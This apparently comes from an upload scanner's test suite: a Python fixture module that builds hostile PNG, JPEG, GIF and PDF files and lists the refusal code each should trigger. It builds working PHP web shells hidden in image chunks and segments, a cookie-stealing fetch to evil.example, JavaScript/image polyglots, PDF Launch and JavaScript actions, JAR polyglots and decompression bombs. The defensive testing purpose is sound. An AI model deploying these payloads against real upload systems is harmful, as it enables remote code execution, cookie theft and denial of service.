"""Hostile images and PDFs, built the way attackers build them (issue 9's list; issue 17's
images and polyglots and issue 18's limits in `issue17_images`).

`hostile()` lists (filename, builder, expected): `expected` is the `found` code of an
unsafe_content refusal, or the error code when the refusal comes earlier (libmagic says
the bytes are not the type the name claims). Payloads sit past the first 64 KiB wherever
the old regex over the head would have missed them.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from . import corpus

HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>\n"
    b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
    b"<p>Your invoice is ready.</p></body></html>\n"
)
PHP = b"<?php system($_GET['c']); ?>"


# --- PNG -------------------------------------------------------------------------------


def png_chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def png_with_chunk_before_iend(ctype: bytes, data: bytes) -> bytes:
    """An honest 200 KB noise PNG with one more chunk just before IEND (past 64 KiB)."""
    png = corpus.noise_png(1, 200_000)
    return png[:-12] + png_chunk(ctype, data) + png[-12:]


def png_text(text: bytes) -> bytes:
    return png_with_chunk_before_iend(b"tEXt", b"Comment\0" + text)


def png_ztxt(text: bytes) -> bytes:
    return png_with_chunk_before_iend(b"zTXt", b"Comment\0\0" + zlib.compress(text))


def png_itxt(text: bytes) -> bytes:
    return png_with_chunk_before_iend(b"iTXt", b"Description\0\1\0en\0\0" + zlib.compress(text))


@cache
def png_65535_square() -> bytes:
    """A real 65535x65535 1-bit PNG (4.3 gigapixels): its IDAT inflates to 537 MB of rows."""
    width = height = 65535
    row = b"\0" + b"\0" * ((width + 7) // 8)
    deflater = zlib.compressobj(9)
    idat = b"".join(deflater.compress(row) for _ in range(height)) + deflater.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return corpus_png_signature() + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def corpus_png_signature() -> bytes:
    return b"\x89PNG\r\n\x1a\n"


def png_header_only(side: int) -> bytes:
    """Only a signature and an IHDR claiming side x side: what a decoder allocates from."""
    return corpus_png_signature() + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))


# --- JPEG and GIF ----------------------------------------------------------------------


def jpeg_patched_to_65535() -> bytes:
    """A real photo whose frame header (SOF0) says 65535x65535."""
    data = bytearray(corpus.noise_jpeg(3, 80_000))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = b"\xff\xff\xff\xff"
    return bytes(data)


def gif_patched_to_65535() -> bytes:
    data = bytearray(corpus.noise_gif(3, 60_000))
    data[6:10] = b"\xff\xff\xff\xff"
    return bytes(data)


def jpeg_shell_php() -> bytes:
    """`shell.php.jpg`: a real photo, padding past 64 KiB, then PHP for an include() to run."""
    return corpus.noise_jpeg(4, 30_000) + b"\0" * 70_000 + PHP


def jpeg_with_comment(text: bytes) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.frombytes("RGB", (300, 300), random.Random(5).randbytes(270_000)).save(out, "JPEG", comment=text)
    return out.getvalue()


def md5_twin_pair(size: int = 300_000, seed: int = 7) -> tuple[bytes, bytes]:
    """Two JPEGs of one length that differ only inside a COM segment right after SOI, the
    room where MD5 collisions on JPEG put their collision blocks (an identical-prefix pair
    made with fastcoll or HashClash differs in exactly such a block, so both files keep one
    MD5, hence one S3 ETag). The first is an honest photo, the second carries script.
    Computing the collision takes a C tool and seconds; the tests give the twin the first's
    ETag through moto's backend instead, which is all S3 would see."""
    honest = corpus.jpeg(size, seed)
    assert honest[2:4] == b"\xff\xfe"  # corpus.jpeg's padding: COM segments first
    payload = HTML_PAGE[HTML_PAGE.index(b"<script>") :][:120]
    twin = honest[:6] + payload + honest[6 + len(payload) :]
    assert len(twin) == len(honest) and twin != honest
    return honest, twin


def jpeg_with_xmp(xmp: bytes) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.frombytes("RGB", (300, 300), random.Random(6).randbytes(270_000)).save(out, "JPEG", xmp=xmp)
    return out.getvalue()


def gif_with_comment(text: bytes) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    image = Image.frombytes("P", (200, 200), random.Random(8).randbytes(40_000))
    image.save(out, "GIF", comment=text)
    return out.getvalue()


def gif_js_polyglot() -> bytes:
    """Valid-looking GIF header whose width bytes open a JS comment: the file runs as a script."""
    return b"GIF89a/*\x0a\x00\x00\x00\x00*/=1;alert(document.domain);/*" + b"\x00" * 64 + b"*/"


def gif_random() -> bytes:
    return b"GIF89a" + random.Random(9).randbytes(100_000)


def gif_screen_then_random() -> bytes:
    """A sane 64x64 logical screen, then random bytes where blocks should be."""
    return b"GIF89a\x40\x00\x40\x00\x00\x00\x00" + random.Random(11).randbytes(100_000)


def jpeg_header_then_javascript() -> bytes:
    return b"\xff\xd8\xff\xe0" + b"alert(document.cookie);var a=1;\n" * 20


# --- every non-pixel byte (issue 17, images) ---------------------------------------------
# Each payload is where PHP's include() or a browser sniffing HTML reads it, in a file that
# image decoders still open: the attacker's aim is a picture that passes for one.

SHORT_TAG = b"<? passthru($_GET['c']); ?>"
HANDLER = b"<details open ontoggle=alert(document.domain)>"


def png_chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    """The (type, data) of every chunk of a PNG."""
    chunks, at = [], 8
    while at < len(png):
        (length,) = struct.unpack(">I", png[at : at + 4])
        chunks.append((png[at + 4 : at + 8], png[at + 8 : at + 8 + length]))
        at += 12 + length
    return chunks


def png_of_chunks(chunks: list[tuple[bytes, bytes]]) -> bytes:
    return corpus_png_signature() + b"".join(png_chunk(ctype, data) for ctype, data in chunks)


def png_with_chunk_after_ihdr(ctype: bytes, data: bytes) -> bytes:
    chunks = png_chunks(corpus.noise_png(1, 200_000))
    return png_of_chunks(chunks[:1] + [(ctype, data)] + chunks[1:])


def png_php_in_time() -> bytes:
    """A tIME chunk (7 bytes by the spec) holding PHP: decoders skip a bad time stamp."""
    return png_with_chunk_before_iend(b"tIME", struct.pack(">HBBBBB", 2026, 1, 1, 0, 0, 0) + PHP)


def png_php_in_iccp_name() -> bytes:
    """iCCP's clear part: the profile's name (up to 79 bytes) is PHP; the profile is real."""
    name = b"<?=`$_GET[c]`?>"
    return png_with_chunk_after_ihdr(b"iCCP", name + b"\0\0" + zlib.compress(corpus.srgb_profile()))


def png_php_after_stream(ctype: bytes) -> bytes:
    """Bytes after a zTXt's or an iCCP's compressed stream: inflaters stop at its end."""
    if ctype == b"iCCP":
        return png_with_chunk_after_ihdr(b"iCCP", b"sRGB\0\0" + zlib.compress(corpus.srgb_profile()) + PHP)
    return png_with_chunk_before_iend(b"zTXt", b"Comment\0\0" + zlib.compress(b"Holiday photo") + PHP)


def png_php_in_second_idat() -> bytes:
    """A second IDAT run after another chunk: decoders stop at the first run's end (the
    image is whole), PHP's include() reads the raw bytes of the second."""
    chunks = png_chunks(corpus.noise_png(1, 200_000))
    return png_of_chunks(chunks[:-1] + [(b"tEXt", b"Comment\0ok"), (b"IDAT", PHP * 10)] + chunks[-1:])


def png_php_in_palette() -> bytes:
    """A palette image whose PLTE entries spell PHP (3 bytes a colour: any byte goes)."""
    from PIL import Image

    image = Image.frombytes("P", (200, 200), random.Random(12).randbytes(40_000))
    palette = (PHP + b" " * 768)[:768]
    image.putpalette(palette)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def png_with_zip_chunk(where: str) -> bytes:
    """A PNG whose private chunk is a zip (a JAR): right after IHDR, or last before IEND,
    where its end record is in the last 64 KiB that zip readers search."""
    jar = jar_bytes()
    if where == "start":
        return png_with_chunk_after_ihdr(b"ziPp", jar)
    return png_with_chunk_before_iend(b"ziPp", jar)


def png_ztxt_flood(chunks: int = 950, inflated: int = 4 * 1024 * 1024) -> bytes:
    """About 4 MB of zTXt chunks, each inflating to 4 MiB: 4 GB of text to a reader."""
    body = b"Comment\0\0" + zlib.compress(b"\0" * inflated, 9)
    png = corpus.noise_png(3, 20_000)
    return png[:-12] + png_chunk(b"zTXt", body) * chunks + png[-12:]


def png_without_idat() -> bytes:
    return png_of_chunks([c for c in png_chunks(corpus.noise_png(1, 60_000)) if c[0] != b"IDAT"])


def jar_bytes() -> bytes:
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", random.Random(10).randbytes(5000))
    return jar.getvalue()


def jpeg_with_segment(marker: int, data: bytes, seed: int = 13) -> bytes:
    """A real photo with one more segment right after SOI."""
    photo = corpus.noise_jpeg(seed, 80_000)
    return photo[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data + photo[2:]


def jpeg_app13_fake_preview() -> bytes:
    """Photoshop's thumbnail resource (8BIM 0x040C) holding a "JPEG" that is SOI, PHP, EOI:
    a check that leaves embedded JPEGs out by their first and last markers skips it."""
    preview = b"\xff\xd8\xff\xe0" + PHP + b"\xff\xd9"
    resource = b"8BIM\x04\x0c\0\0" + struct.pack(">I", len(preview)) + preview
    return jpeg_with_segment(0xED, b"Photoshop 3.0\0" + resource)


def jpeg_exif_thumbnail_php() -> bytes:
    """IFD1's thumbnail range (JPEGInterchangeFormat/Length) holds PHP, not a JPEG."""
    return jpeg_with_segment(0xE1, corpus.exif_with_thumbnail(PHP + b" " * 64))


def jpeg_comments_with_pdf() -> bytes:
    """COM segments carrying a whole PDF whose catalog opens with JavaScript: pdf.js finds
    `%PDF-` in the first 1,024 bytes and runs it."""
    document = pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")[:60_000]
    photo = corpus.noise_jpeg(14, 80_000)
    segments = b"".join(
        b"\xff\xfe" + struct.pack(">H", len(piece) + 2) + piece
        for piece in (document[i : i + 65_000] for i in range(0, len(document), 65_000))
    )
    return photo[:2] + segments + photo[2:]


def jpeg_comment_with_pdf_objects() -> bytes:
    """A PDF's objects without its `%PDF-` line, in a comment: MuPDF and pdf.js, repairing
    the file they were asked to open, find `1 0 obj` anywhere and run the catalog's script."""
    document = pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    body = document[document.index(b"1 0 obj") :][:60_000]
    return jpeg_with_segment(0xFE, body, seed=17)


def jpeg_with_zip_near_eof() -> bytes:
    """A JAR in an APP segment of the last image (an MPF-like second JPEG), so its end
    record is in the last 64 KiB: `java -jar photo.jpg` runs it."""
    second = corpus.noise_jpeg(15, 20_000)
    jar = jar_bytes()
    return corpus.noise_jpeg(16, 60_000) + second[:2] + b"\xff\xe9" + struct.pack(">H", len(jar) + 2) + jar + second[2:]


def _js_free(data: bytes) -> bool:
    return b"*/" not in data


@cache
def jpeg_js_polyglot() -> bytes:
    """A JPEG that is also JavaScript (read as windows-1252): the APP0 length is `/*`, the
    APP0 data closes the comment, runs the script and opens another that the last bytes
    before EOI close: `ÿØÿà/* ... */=alert(1);/* ... */ÿÙ`."""
    from PIL import Image

    for seed in range(100):
        out = io.BytesIO()
        Image.frombytes("RGB", (16, 16), random.Random(seed).randbytes(768)).save(out, "JPEG", quality=50)
        photo = out.getvalue()
        if _js_free(photo[20:-2]):
            break
    app0 = b"JFIF\0\1\1\0\0\1\0\1\0\0*/=alert(document.domain);/*"
    app0 += b" " * (0x2F2A - 2 - len(app0))
    assert photo[2:4] == b"\xff\xe0"
    return photo[:2] + b"\xff\xe0\x2f\x2a" + app0 + photo[20:-2] + b"*/" + photo[-2:]


def gif_js_polyglot_valid() -> bytes:
    """A GIF that opens and shows, and is also JavaScript: the screen's width is `/*`, a
    comment extension closes it, runs the script and opens another comment, which the last
    extension closes with `*///` (the trailer then sits in a line comment)."""
    screen = b"GIF89a/*" + struct.pack("<H", 1) + b"\x80\x00\x00" + b"\0\0\0\xff\xff\xff"
    code = b"*/=alert(document.domain);/*"
    script = b"\x21\xfe" + bytes([len(code)]) + code + b"\x00"
    image = b"\x2c\0\0\0\0\1\0\1\0\0" + b"\x02\x02\x44\x01\x00"
    return screen + script + image + b"\x21\xfe\x04*///\x00\x3b"


def gif_blocks_start(gif: bytes) -> int:
    """Where a GIF's blocks start: after the header, the screen and its colour table."""
    return 13 + (3 << ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)


def gif_php_in_graphic_control() -> bytes:
    """A graphic control extension (one 4-byte block by the spec) with PHP in a second block."""
    gif = corpus.noise_gif(5, 60_000)
    at = gif_blocks_start(gif)
    control = b"\x21\xf9\x04\x00\x0a\x00\x00" + bytes([len(PHP)]) + PHP + b"\x00"
    return gif[:at] + control + gif[at:]


def gif_php_in_extension(label: int, payload: bytes = PHP) -> bytes:
    gif = corpus.noise_gif(6, 60_000)
    return gif[:-1] + b"\x21" + bytes([label]) + bytes([len(payload)]) + payload + b"\x00" + gif[-1:]


def gif_comment_split(text: bytes = b"<script>alert(1)</script>") -> bytes:
    """Markup split across comment sub-blocks: a reader joins them (Pillow's info["comment"])."""
    blocks = b"".join(bytes([len(text[i : i + 3])]) + text[i : i + 3] for i in range(0, len(text), 3))
    gif = corpus.noise_gif(7, 60_000)
    return gif[:-1] + b"\x21\xfe" + blocks + b"\x00" + gif[-1:]


def gif_far_frame() -> bytes:
    """A 100x100 frame at 65535,65535 on a 100x100 screen: viewers that grow the canvas to
    hold it allocate 4.3 gigapixels."""
    from PIL import Image

    out = io.BytesIO()
    Image.frombytes("P", (100, 100), random.Random(9).randbytes(10_000)).save(out, "GIF")
    frame = bytearray(out.getvalue())
    at = frame.index(b"\x2c")
    frame[at + 1 : at + 5] = struct.pack("<HH", 65535, 65535)
    return bytes(frame)


def gif_empty_blocks(count: int = 1_300_000) -> bytes:
    """About 4 MB of empty comment extensions (3 bytes each) before a real image."""
    gif = corpus.noise_gif(10, 20_000)
    at = gif_blocks_start(gif)
    return gif[:at] + b"\x21\xfe\x00" * count + gif[at:]


def issue17_images() -> list[tuple[str, Callable[[], bytes], str]]:
    """Hostile images of issue 17 (every non-pixel byte, polyglots) and issue 18 (limits)."""
    return [
        ("time.png", png_php_in_time, "markup"),
        ("iccp-name.png", png_php_in_iccp_name, "markup"),
        ("after-ztxt.png", lambda: png_php_after_stream(b"zTXt"), "markup"),
        ("after-iccp.png", lambda: png_php_after_stream(b"iCCP"), "markup"),
        ("second-idat.png", png_php_in_second_idat, "malformed"),
        ("palette.png", png_php_in_palette, "markup"),
        ("short-tag.png", lambda: png_text(SHORT_TAG), "markup"),
        ("handler.png", lambda: png_itxt(HANDLER), "markup"),
        ("exif.png", lambda: png_with_chunk_before_iend(b"eXIf", b"MM\0*\0\0\0\x08" + SHORT_TAG), "markup"),
        ("zip-chunk.png", lambda: png_with_zip_chunk("start"), "polyglot"),
        ("jar-chunk.png", lambda: png_with_zip_chunk("end"), "polyglot"),
        ("ztxt-flood.png", png_ztxt_flood, "image_limits"),
        ("no-idat.png", png_without_idat, "malformed"),
        ("fake-preview.jpg", jpeg_app13_fake_preview, "markup"),
        ("exif-thumb.jpg", jpeg_exif_thumbnail_php, "markup"),
        ("short-tag.jpg", lambda: jpeg_with_comment(SHORT_TAG), "markup"),
        ("handler.jpg", lambda: jpeg_with_xmp(b"<x:xmpmeta>" + HANDLER + b"</x:xmpmeta>"), "markup"),
        ("icc.jpg", lambda: jpeg_with_segment(0xE2, b"ICC_PROFILE\0\1\1" + SHORT_TAG), "markup"),
        ("pdf-comments.jpg", jpeg_comments_with_pdf, "polyglot"),
        ("pdf-objects.jpg", jpeg_comment_with_pdf_objects, "polyglot"),
        ("jar.jpg", jpeg_with_zip_near_eof, "polyglot"),
        ("js-polyglot.jpg", jpeg_js_polyglot, "polyglot"),
        ("js-polyglot.gif", gif_js_polyglot_valid, "polyglot"),
        ("control.gif", gif_php_in_graphic_control, "markup"),
        ("unknown-ext.gif", lambda: gif_php_in_extension(0x99), "markup"),
        ("app-ext.gif", lambda: gif_php_in_extension(0xFF), "markup"),
        ("split-comment.gif", gif_comment_split, "markup"),
        ("far-frame.gif", gif_far_frame, "image_dimensions"),
        ("empty-blocks.gif", gif_empty_blocks, "image_limits"),
    ]


# --- PDF -------------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A PDF written by hand, as an attacker's script writes it: object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
# 100 KB of page content first: every payload object sits past the first 64 KiB.
CONTENT = _stream(b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n" + b"% padding\n" * 10_000)


def pdf_with_catalog(catalog_extra: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return raw_pdf([catalog, PAGES, page, CONTENT, *more])


def pdf_js_in_object_stream() -> bytes:
    """/OpenAction JavaScript inside a compressed object stream (pikepdf, object_stream_mode=generate)."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(corpus.fpdf_document(2, seed=3)))
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = action
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


@cache
def pdf_object_stream_bomb() -> bytes:
    """An object stream (PDF 1.5, found through an xref stream) that inflates to 80 MB from
    ~80 KB: one object holding a string of 80 million zeros."""
    deflater = zlib.compressobj(9)
    packed = deflater.compress(b"5 0 ") + deflater.compress(b"<< /Filler (")
    packed += b"".join(deflater.compress(b"0" * 1_000_000) for _ in range(80)) + deflater.compress(b") >>")
    packed += deflater.flush()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /Filler 5 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"),
        (
            4,
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream",
        ),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3, 4)]
    rows += [b"\x02" + struct.pack(">I", 4) + b"\x00\x00", b"\x01" + struct.pack(">I", offsets[6]) + b"\x00\x00"]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_encrypted() -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(corpus.fpdf_document(1, seed=4)))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    return out.getvalue()


def pdf_with_zip_appended() -> bytes:
    """A PDF with a JAR (a zip) after its %%EOF: the GIFAR/PDF+JAR trick."""
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", random.Random(10).randbytes(5000))
    return corpus.fpdf_document(1, seed=2) + jar.getvalue()


def html_with_pdf_header_at_100() -> bytes:
    return b"<!DOCTYPE html><html><head><title>x</title></head><body><!-- " + b"x" * 40 + b" -->%PDF-1.7\n" + HTML_PAGE


def hostile() -> list[tuple[str, Callable[[], bytes], str]]:
    """Every hostile image and PDF: (filename, builder, expected found or error code)."""
    return [
        # PDF actions, JavaScript and embedded content
        ("invoice.pdf", pdf_js_in_object_stream, "pdf_javascript"),
        (
            "js-hex.pdf",
            lambda: pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "pdf_javascript",
        ),
        (
            "names-js.pdf",
            lambda: pdf_with_catalog(
                b"/Names << /JavaScript 5 0 R >>",
                b"<< /Names [(a) 6 0 R] >>",
                b"<< /S /JavaScript /JS (app.alert(1)) >>",
            ),
            "pdf_javascript",
        ),
        ("orphan-js.pdf", lambda: pdf_with_catalog(b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_javascript"),
        ("launch.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), "pdf_action"),
        (
            "submit.pdf",
            lambda: pdf_with_catalog(
                b"", page=PAGE[:-2] + b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >> >>"
            ),
            "pdf_action",
        ),
        ("import.pdf", lambda: pdf_with_catalog(b"", b"<< /S /ImportData /F (data.fdf) >>"), "pdf_action"),
        (
            "open-uri.pdf",
            lambda: pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
            "pdf_action",
        ),
        (
            "open-uri-ref.pdf",
            lambda: pdf_with_catalog(b"/OpenAction 5 0 R", b"<< /S /URI /URI (https://evil.example/) >>"),
            "pdf_action",
        ),
        (
            "aa-uri-chain.pdf",
            lambda: pdf_with_catalog(
                b"/AA 5 0 R",
                b"<< /WC 6 0 R >>",
                b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
                b"<< /S /URI /URI (https://evil.example/) >>",
            ),
            "pdf_action",
        ),
        (
            "attached.pdf",
            lambda: pdf_with_catalog(
                b"/Names << /Embedded#46iles 5 0 R >>",
                b"<< /Names [(a.exe) 6 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                _stream(b"MZ" + b"\0" * 100, b"/Type /Embedded#46ile "),
            ),
            "pdf_embedded_file",
        ),
        (
            "flash.pdf",
            lambda: pdf_with_catalog(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
            "pdf_rich_media",
        ),
        (
            "form.pdf",
            lambda: pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 5 0 R >>", _stream(b"<xdp:xdp/>")),
            "pdf_xfa",
        ),
        ("locked.pdf", pdf_encrypted, "pdf_encrypted"),
        ("bomb.pdf", pdf_object_stream_bomb, "pdf_limits"),
        # PDF structure
        ("jar.pdf", pdf_with_zip_appended, "trailing_data"),
        # no %%EOF at all: said as such (malformed), not as bytes after an end marker
        ("page.pdf", lambda: b"%PDF-1.7\n" + HTML_PAGE * 40, "malformed"),
        ("page2.pdf", html_with_pdf_header_at_100, "leading_data"),
        # images: dimensions
        ("huge.png", png_65535_square, "image_dimensions"),
        ("claims.png", lambda: png_header_only(2**31), "image_dimensions"),
        ("claims2.png", lambda: png_header_only(2**31 - 1), "image_dimensions"),
        ("patched.jpg", jpeg_patched_to_65535, "image_dimensions"),
        ("patched.gif", gif_patched_to_65535, "image_dimensions"),
        # images: structure and trailing bytes
        ("cut.png", lambda: corpus.noise_png(2, 60_000)[:40], "malformed"),
        ("random.gif", gif_random, "image_dimensions"),
        ("random2.gif", gif_screen_then_random, "malformed"),
        ("polyglot.gif", gif_js_polyglot, "malformed"),  # a broken GIF; script.gif below is a whole one
        ("script.jpg", jpeg_header_then_javascript, "malformed"),
        (
            "after-iend.png",
            lambda: corpus.noise_png(3, 120_000) + b"<script>alert(document.cookie)</script>",
            "trailing_data",
        ),
        ("shell.php.jpg", jpeg_shell_php, "trailing_data"),
        ("after-trailer.gif", lambda: corpus.noise_gif(4, 90_000) + HTML_PAGE, "trailing_data"),
        # images: markup where text lives
        ("onerror.png", lambda: png_text(b'<img src=x onerror="alert(1)">'), "markup"),
        ("onload.png", lambda: png_ztxt(b"<body onload=alert(1)>"), "markup"),
        (
            "refresh.png",
            lambda: png_itxt(b'<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
            "markup",
        ),
        ("echo.png", lambda: png_text(b"<?=`$_GET[c]`?>"), "markup"),
        ("utf16.png", lambda: png_text("<script>alert(1)</script>".encode("utf-16-le")), "markup"),
        ("private.png", lambda: png_with_chunk_before_iend(b"prVt", HTML_PAGE), "markup"),
        ("comment.jpg", lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "markup"),
        ("xmp.jpg", lambda: jpeg_with_xmp(b'<x:xmpmeta><svg onload="alert(1)"/></x:xmpmeta>'), "markup"),
        ("php.jpg", lambda: jpeg_with_comment(PHP), "markup"),
        ("comment.gif", lambda: gif_with_comment(b"<iframe src=javascript:alert(1)>"), "markup"),
        *issue17_images(),
    ]
